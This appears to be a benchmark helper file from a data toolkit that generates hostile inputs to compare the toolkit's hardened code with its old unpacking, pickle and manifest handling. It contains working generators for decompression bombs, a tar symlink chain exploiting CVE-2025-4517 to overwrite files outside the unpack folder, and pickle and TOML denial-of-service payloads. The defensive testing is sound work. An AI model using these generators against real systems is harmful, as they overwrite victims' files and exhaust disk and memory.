"""Hostile inputs for benchmarks/hostile_inputs.py, made from nothing; the baseline recipes; a loopback server.

The inputs: archives (a tarfile 'data' filter bypass through links past PATH_MAX, zip members leaving their folder,
bombs, a tar of links to folders), pickles, manifests and converter paths. Bombs are fast to make: a MiB of zeros is
deflated once and the compressed block repeated (a full flush makes each block stand alone), so 10 GB of payload
costs ~2 s of CRC. The baseline ("before") is the plain-library recipe the toolkit used until issue 38, written here
(CI has no old code): `python benchmarks/_hostile_attacks.py RECIPE ARGS...` runs one in a child; `now-levels` and
`now-twice` run the toolkit's side where no CLI command does. The server answers on 127.0.0.1 only and stops by itself.
The measures of what a child left (bytes written, the state of a folder) are here too.
"""

from __future__ import annotations

import gzip
import hashlib
import http.server
import io
import os
import pickle
import re
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import threading
import time
import tomllib
import urllib.request
import zipfile
import zlib
from pathlib import Path

MIB = 1 << 20
_ZEROS = bytes(MIB)
STEPS = "abcdefghijklmnop"  # the link chain's 16 steps: os.path.realpath's lexical '..' never leaves the 16 folders


class ZeroDeflater:
    """Raw deflate of bytes and long runs of zeros into `out`, keeping the CRC-32 and length for the trailers."""

    def __init__(self, out: io.RawIOBase | io.BufferedIOBase) -> None:
        self.out, self.co, self.crc, self.size = out, zlib.compressobj(9, zlib.DEFLATED, -15), 0, 0
        self.unit: bytes | None = None  # one MiB of zeros, deflated after a full flush: stands alone, repeatable

    def data(self, chunk: bytes) -> None:
        self.out.write(self.co.compress(chunk))
        self.crc, self.size = zlib.crc32(chunk, self.crc), self.size + len(chunk)

    def zeros(self, n: int) -> None:
        whole, rest = divmod(n, MIB)
        if whole:
            self.out.write(self.co.flush(zlib.Z_FULL_FLUSH))
            if self.unit is None:
                self.unit = self.co.compress(_ZEROS) + self.co.flush(zlib.Z_FULL_FLUSH)
                assert self.co.compress(_ZEROS) + self.co.flush(zlib.Z_FULL_FLUSH) == self.unit, "deflate not stable"
            for _ in range(whole):
                self.out.write(self.unit)
                self.crc = zlib.crc32(_ZEROS, self.crc)
            self.size += whole * MIB
        if rest:
            self.data(bytes(rest))

    def finish(self) -> None:
        self.out.write(self.co.flush())


def gzip_bomb(path: Path, size: int) -> None:
    """One .gz file that decompresses to `size` zero bytes (~1/1000 of it on disk)."""
    with open(path, "wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        deflater = ZeroDeflater(out)
        deflater.zeros(size)
        deflater.finish()
        out.write(struct.pack("<II", deflater.crc, deflater.size & 0xFFFFFFFF))


def tar_gz_bomb(path: Path, size: int) -> None:
    """A .tar.gz of one member of `size` zero bytes (GNU size field past 8 GB)."""
    header = tarfile.TarInfo("payload.bin")
    header.size = size
    with open(path, "wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        deflater = ZeroDeflater(out)
        deflater.data(header.tobuf(format=tarfile.GNU_FORMAT))
        deflater.zeros(size + (-size % 512) + 2 * 512)  # the payload, its padding, the end-of-archive blocks
        deflater.finish()
        out.write(struct.pack("<II", deflater.crc, deflater.size & 0xFFFFFFFF))


def zip_bomb(path: Path, size: int, member: int = 2_500_000_000) -> None:
    """A .zip of members of at most `member` zero bytes (no ZIP64 needed), `size` bytes in all; members of one size
    share their deflated bytes."""
    sizes = [member] * (size // member) + ([size % member] if size % member else [])
    streams: dict[int, tuple[bytes, int]] = {}
    with open(path, "wb") as out:
        central, offset = [], 0
        for i, n in enumerate(sizes):
            if n not in streams:
                buffer = io.BytesIO()
                deflater = ZeroDeflater(buffer)
                deflater.zeros(n)
                deflater.finish()
                streams[n] = (buffer.getvalue(), deflater.crc)
            data, crc = streams[n]
            name = f"payload-{i}.bin".encode()
            fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), n)
            out.write(b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name + data)
            central.append(
                b"PK\x01\x02"
                + struct.pack("<H", 0x0314)
                + fields
                + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0o100644 << 16, offset)
                + name
            )
            offset += 30 + len(name) + len(data)
        directory = b"".join(central)
        out.write(
            directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(sizes), len(sizes), len(directory), offset, 0)
        )


def plain_tar(path: Path, size: int) -> None:
    """An uncompressed .tar of one member of `size` zero bytes."""
    header = tarfile.TarInfo("payload.bin")
    header.size = size
    with open(path, "wb") as out:
        out.write(header.tobuf(format=tarfile.GNU_FORMAT))
        for start in range(0, size + (-size % 512) + 2 * 512, MIB):
            out.write(_ZEROS[: min(MIB, size + (-size % 512) + 2 * 512 - start)])


def _add(tf: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mode = kind, link, len(data), 0o755 if kind == tarfile.DIRTYPE else 0o644
    tf.addfile(info, io.BytesIO(data) if data else None)


def tar_link_chain(path: Path, dest: Path, canary: Path) -> None:
    """CVE-2025-4517: links that os.path.realpath stops expanding past PATH_MAX (which the 'data' filter of Python
    < 3.11.13 checks with) lead out of `dest`; through them a hard link to canary/victim.txt is overwritten and
    canary/new.txt written. `dest` (where it will be unpacked) sizes the chain: its expansion must fill PATH_MAX but
    for ~128 characters, which leaves room for a dest path ~120 characters longer or shorter than the one given."""
    assert len(dest.parts) <= len(STEPS), f"{dest} is too deep for a chain of {len(STEPS)} steps"
    path_max = os.pathconf("/", "PC_PATH_MAX")
    component = "d" * ((path_max - 128 - len(str(dest))) // len(STEPS) - 1)
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tf:
        for i, step in enumerate(STEPS):
            prefix = "/".join([component] * i)
            _add(tf, f"{prefix}/{component}".lstrip("/"), tarfile.DIRTYPE)
            _add(tf, f"{prefix}/{step}".lstrip("/"), tarfile.SYMTYPE, component)
        overflow = "/".join(STEPS) + "/" + "l" * 254  # never expanded by realpath: it takes '..' as plain names
        _add(tf, overflow, tarfile.SYMTYPE, "/".join([".."] * len(STEPS)))  # really: dest itself
        _add(tf, "escape", tarfile.SYMTYPE, overflow + "/.." * len(STEPS))  # really: "/", dest being no deeper
        outside = "escape" + str(canary)
        _add(tf, "victimlink", tarfile.LNKTYPE, f"{outside}/victim.txt")
        _add(tf, "victimlink", data=b"overwritten by the archive\n")
        _add(tf, f"{outside}/new.txt", data=b"written by the archive\n")


def zip_member(path: Path, name: str, mode: int = 0o100644) -> None:
    """A .zip of one member named `name` (`mode` in its Unix attributes: a device, a link)."""
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(info, b"written by the archive\n")


def tar_link_levels(path: Path, width: int, depth: int, file_bytes: int) -> None:
    """A .tar.gz of `depth` levels of `width` links, each to the folder of the level below, over one file:
    turning links into copies writes width**depth copies of the file from a few hundred bytes."""
    with tarfile.open(path, "w:gz", compresslevel=9) as tf:
        _add(tf, "l0", tarfile.DIRTYPE)
        _add(tf, "l0/f", data=bytes(file_bytes))
        for level in range(1, depth + 1):
            _add(tf, f"l{level}", tarfile.DIRTYPE)
            for k in range(width):
                _add(tf, f"l{level}/x{k}", tarfile.SYMTYPE, f"../l{level - 1}")


def voc_tar(path: Path, filename: str) -> None:
    """A VOC layout whose annotation's <filename> is `filename`."""
    xml = f"<annotation><filename>{filename}</filename><object><name>cat</name></object></annotation>"
    with tarfile.open(path, "w") as tf:
        _add(tf, "VOC/Annotations/1.xml", data=xml.encode())
        _add(tf, "VOC/JPEGImages/1.jpg", data=b"\xff\xd8\xff\xd9")


def pickle_attack(path: Path, kind: str, scale: int) -> None:
    """A levels pickle: "zero-size" (a level of 8e9 empty items), "shared" (`scale` references to one level of 1,000
    wnids), "deep" (a list `scale` deep), "binbytes8" (bytes claiming 2**40 bytes)."""
    if kind == "zero-size":
        import numpy as np

        data = pickle.dumps([np.empty(8_000_000_000, dtype="V0")], protocol=4)
    elif kind == "shared":
        level = [f"n{i:08d}" for i in range(1000)]
        data = pickle.dumps([level] * scale, protocol=2)
    elif kind == "deep":
        data = b"\x80\x02" + b"]" * scale + b"a" * (scale - 1) + b"."  # EMPTY_LIST n times, APPEND n - 1 times
    else:
        data = b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"\0" * 16 + b"."
    path.write_bytes(data)


def manifest_attack(path: Path, kind: str, scale: int) -> None:
    """A manifest: "latin1" (not UTF-8), "deep" (`scale` nested arrays), "dotted" (a `scale`-part key), "newline"
    (a dataset name ending in a newline)."""
    entry = '[[dataset]]\nname = "{}"\naccess = "manual"\nconverter = "copy"\n[[dataset.artefacts]]\nfile = "a.bin"\n'
    if kind == "latin1":
        data = entry.format("cafe").replace("access", 'title = "Caf\xe9"\naccess').encode("latin-1")
    elif kind == "deep":
        data = ("x = " + "[" * scale + "]" * scale + "\n").encode()
    elif kind == "dotted":
        data = (".".join(["x"] * scale) + " = 1\n").encode()
    else:
        data = entry.format("evil\\n").encode()
    path.write_bytes(data)


# ----------------------------------------------------------------------------------------------------------------
# The baseline: what the toolkit did before, with the plain library (run in a child by hostile_inputs.py)

_OLD_NAME = re.compile(r"^[a-z0-9][a-z0-9_.-]*$")  # the manifest's name check: '$' also matches before a final \n
_IDX = re.compile(r"^(?P<prefix>.+?)-(?P<what>images|labels)[-.]idx(?P<ndim>[13])-ubyte(?P<gz>\.gz)?$")


def before_unpack(archive: str, dest: str, kind: str) -> None:
    """Unpack as the toolkit did: tarfile's 'data' filter ("tar"; "tar+links": then every link turned into a copy
    of what it names, shutil.copytree for a folder); a zip member loop refusing '..' and absolute names; gzip."""
    target = Path(dest)
    target.mkdir(parents=True, exist_ok=True)
    if kind.startswith("tar"):
        with tarfile.open(archive) as tf:
            tf.extractall(target, filter="data")
    elif kind == "zip":
        with zipfile.ZipFile(archive) as zf:
            for info in zf.infolist():
                parts = Path(info.filename).parts
                if info.filename.startswith("/") or ".." in parts:
                    raise ValueError(f"member {info.filename!r} would unpack outside {target}")
                out = target / info.filename
                out.parent.mkdir(parents=True, exist_ok=True)
                with zf.open(info) as src, open(out, "wb") as dst:
                    shutil.copyfileobj(src, dst, MIB)
    else:
        with gzip.open(archive) as src, open(target / Path(archive).stem, "wb") as dst:
            shutil.copyfileobj(src, dst, MIB)
    root = target.resolve()
    for link in sorted(p for p in target.rglob("*") if p.is_symlink()) if kind == "tar+links" else []:
        real = link.resolve()
        if root not in real.parents:
            raise ValueError(f"{link.relative_to(target)} links outside the unpacked artefacts")
        if real in link.parents:
            raise ValueError(f"{link.relative_to(target)} links to a folder holding it")
        link.unlink()
        shutil.copytree(real, link) if real.is_dir() else shutil.copyfile(real, link)
    print(f"unpacked into {target}")


def before_idx_rename(file: str, out: str, new_name: str) -> None:
    """The idx converter's `rename`: the file copied to out/<new name> when that looks like an IDX name."""
    if _IDX.match(new_name):
        target = Path(out) / new_name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(file, target)
        print(f"copied to {target}")


def before_voc(archive: str, dest: str, out: str) -> None:
    """The voc converter: each annotation's <filename> looked up under JPEGImages/ and moved into out/images/."""
    before_unpack(archive, dest, "tar")
    base = Path(dest)
    for xml in sorted(base.glob("**/Annotations/*.xml")):
        name = re.search(r"<filename>(.*)</filename>", xml.read_text()).group(1)  # type: ignore[union-attr]
        image = xml.parent.parent / "JPEGImages" / name
        if image.is_file():
            target = Path(out) / "images" / image.relative_to(base)
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.move(str(image), target)
            print(f"labels.csv names {target.relative_to(out)}, the file {os.path.realpath(image)}")


def before_download(url: str, dest: str) -> None:
    """A urllib read loop: 60 s per read, no size cap, redirects followed."""
    Path(dest).parent.mkdir(parents=True, exist_ok=True)
    with urllib.request.urlopen(url, timeout=60) as response, open(dest, "wb") as out:
        while chunk := response.read(1 << 16):
            out.write(chunk)
    print(f"saved {Path(dest).stat().st_size:,} bytes")


class _OldUnpickler(pickle.Unpickler):
    """DataUnpickler as it was: an allow-list of what find_class returns, nothing bounded."""

    def find_class(self, module: str, name: str) -> object:
        import codecs

        import numpy as np

        allowed = {"_reconstruct": np.ndarray.__reduce__(np.zeros(1))[0], "scalar": np.float64(0).__reduce__()[0]}
        allowed |= {
            "ndarray": np.ndarray,
            "dtype": np.dtype,
            "encode": codecs.encode,
            "set": set,
            "frozenset": frozenset,
        }
        modules = {"_reconstruct": "multiarray", "scalar": "multiarray", "encode": "_codecs"}
        if name in allowed and module.rsplit(".", 1)[-1] in (modules.get(name, "numpy"), "builtins", "__builtin__"):
            return allowed[name]
        raise pickle.UnpicklingError(f"{module}.{name} is not allowed")


def before_levels(path: str) -> None:
    """A levels pickle read as the level-file code did: unpickled, every level listed as strings (arrays through
    tolist), then each entry checked to be a wnid in one level only (an error shows the entry)."""
    import numpy as np

    with open(path, "rb") as f:
        content = _OldUnpickler(f, encoding="latin1").load()
    levels = []
    for number, level in enumerate(content, start=1):
        items = level.tolist() if isinstance(level, np.ndarray) else level
        for item in items:
            if not isinstance(item, str):
                raise ValueError(f"level {number}: {item!r} is not a string")
        levels.append(list(items))
    placed: dict[str, int] = {}
    for number, level in enumerate(levels, start=1):
        for wnid in level:
            if not re.fullmatch(r"n\d{8}", wnid) or placed.setdefault(wnid, number) != number:
                raise ValueError(f"level {number}: {wnid!r} is not a wnid, or is in two levels")
    print(f"read {sum(map(len, levels)):,} wnids")


def before_manifest(path: str) -> None:
    """tomllib on the file's text, then the old name check on each dataset."""
    data = tomllib.loads(Path(path).read_text(encoding="utf-8"))
    names = [row.get("name") for row in data.get("dataset", [])]
    bad = [n for n in names if not (isinstance(n, str) and _OLD_NAME.match(n))]
    if bad:
        raise ValueError(f"bad dataset names {bad}")
    print(f"accepted: {names!r}")


def now_levels(path: str) -> None:
    """The toolkit's level-file reader (load_data_pickle inside); an error is printed as the CLI prints one."""
    from lifelong.concepts.level_files import read_levels_file

    try:
        levels = read_levels_file(path)
    except (OSError, ValueError) as exc:
        print(f"error: {exc}", file=sys.stderr)
        raise SystemExit(2) from None
    print(f"read {sum(map(len, levels)):,} wnids")


def now_twice(*argv: str) -> None:
    """Two copies of a command at once (0.2 s apart); their outputs, and the worse exit code."""
    children = []
    for _ in range(2):
        children.append(subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True))
        time.sleep(0.2)
    codes = []
    for i, child in enumerate(children, start=1):
        out, _ = child.communicate()
        codes.append(child.returncode)
        print("".join(f"[{i}] {line}\n" for line in out.splitlines()), end="")
    raise SystemExit(max(codes))


RECIPES = {
    "unpack": before_unpack,
    "idx-rename": before_idx_rename,
    "voc": before_voc,
    "download": before_download,
    "levels": before_levels,
    "manifest": before_manifest,
    "now-levels": now_levels,
    "now-twice": now_twice,
}


# ----------------------------------------------------------------------------------------------------------------
# The loopback server (127.0.0.1 only): what a hostile server sends


class Loopback:
    """Routes name what each path sends: ("endless",), ("length", n) a Content-Length of n then zeros without end,
    ("longer", n) n bytes and no length, ("trickle", n) a length of n and one byte every 2 s, ("to-file", url),
    ("html",). Stops by itself after `lifetime` seconds; streams stop when `close()` is called."""

    def __init__(self, routes: dict[str, tuple], lifetime: float) -> None:
        self.routes, self.stop = routes, threading.Event()
        serve = self.serve

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                return None

            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                try:
                    serve(self)
                except (BrokenPipeError, ConnectionResetError, TimeoutError):
                    pass  # the client gave up: what it should do

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.timer = threading.Timer(lifetime, self.close)
        self.timer.daemon = True
        self.timer.start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}{path}"

    def close(self) -> None:
        self.stop.set()
        self.timer.cancel()
        self.server.shutdown()
        self.server.server_close()

    def serve(self, handler: http.server.BaseHTTPRequestHandler) -> None:
        kind, *args = self.routes.get(handler.path, ("missing",))
        if kind == "missing":
            handler.send_error(404)
            return
        if kind == "to-file":
            handler.send_response(302)
            handler.send_header("Location", args[0])
            handler.end_headers()
            return
        html = kind == "html"
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html" if html else "application/octet-stream")
        if kind in ("length", "trickle") or html:
            handler.send_header("Content-Length", str(args[0] if args else 61))
        handler.end_headers()
        if html:
            handler.wfile.write(b"<html><body>Please sign in to download.</body></html>\n".ljust(61))
            return
        left = args[0] if kind == "longer" else float("inf")
        while left > 0 and not self.stop.is_set():
            if kind == "trickle":
                handler.wfile.write(b"\0")
                handler.wfile.flush()
                self.stop.wait(2.0)
                continue
            block = _ZEROS[: int(min(left, MIB))]
            handler.wfile.write(block)
            left -= len(block)


# ----------------------------------------------------------------------------------------------------------------
# What a child left: the benchmark's measures


def tree_state(folder: Path, skip: Path) -> dict[str, tuple]:
    """Every entry under `folder` but `skip`: (is a link, size, mtime, digest) to tell what changed."""
    state: dict[str, tuple] = {}
    for top, dirs, files, fd in os.fwalk(folder):  # by folder handles: a link chain's paths pass PATH_MAX
        dirs[:] = [d for d in dirs if Path(top, d) != skip]
        for name in dirs + files:
            info = os.stat(name, dir_fd=fd, follow_symlinks=False)
            digest = ""
            if stat.S_ISREG(info.st_mode):
                handle = os.open(name, os.O_RDONLY, dir_fd=fd)
                with open(handle, "rb") as f:
                    digest = hashlib.file_digest(f, "sha1").hexdigest()
            entry = (stat.S_ISLNK(info.st_mode), info.st_size, info.st_mtime_ns, digest)
            state[os.path.relpath(os.path.join(top, name), folder)] = entry
    return state


def bytes_in(folder: Path) -> int:
    """Bytes of the regular files under `folder` (each inode once, links not followed)."""
    seen: dict[tuple[int, int], int] = {}
    for _, _, files, fd in os.fwalk(folder):
        for name in files:
            info = os.stat(name, dir_fd=fd, follow_symlinks=False)
            if stat.S_ISREG(info.st_mode):
                seen[(info.st_dev, info.st_ino)] = info.st_size
    return sum(seen.values())


def written_by(pid: int) -> int:
    """Bytes process `pid` has written (wchar: files, pipes, sockets; sendfile copies too)."""
    try:
        lines = Path(f"/proc/{pid}/io").read_text().splitlines()
        return int(next(line for line in lines if line.startswith("wchar"))[7:])
    except (OSError, StopIteration):  # gone, or no I/O accounting here: the target's bytes stand in for it
        return 0


def peak_rss(pid: int) -> int:
    """Process `pid`'s peak resident memory since its exec (VmHWM), in bytes; 0 when it is gone."""
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        return int(next(line for line in lines if line.startswith("VmHWM:")).split()[1]) * 1024
    except (OSError, StopIteration):
        return 0


def used_disk(folder: Path) -> int:
    vfs = os.statvfs(folder)
    return (vfs.f_blocks - vfs.f_bfree) * vfs.f_frsize


if __name__ == "__main__":
    RECIPES[sys.argv[1]](*sys.argv[2:])
